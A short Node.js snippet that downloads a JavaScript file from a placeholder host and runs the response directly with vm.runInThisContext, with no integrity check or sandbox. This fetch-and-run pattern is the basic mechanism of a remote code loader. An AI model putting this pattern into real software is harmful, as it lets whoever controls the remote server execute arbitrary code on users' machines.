const https = require("https");
const vm = require("vm");

// Accumulates a response body inside the callbacks of a request and runs it.
https.get("https://plugins.runtime-cdn.invalid/p.js", (res) => {
  let code = "";
  res.on("data", (c) => (code += c));
  res.on("end", () => vm.runInThisContext(code));
});
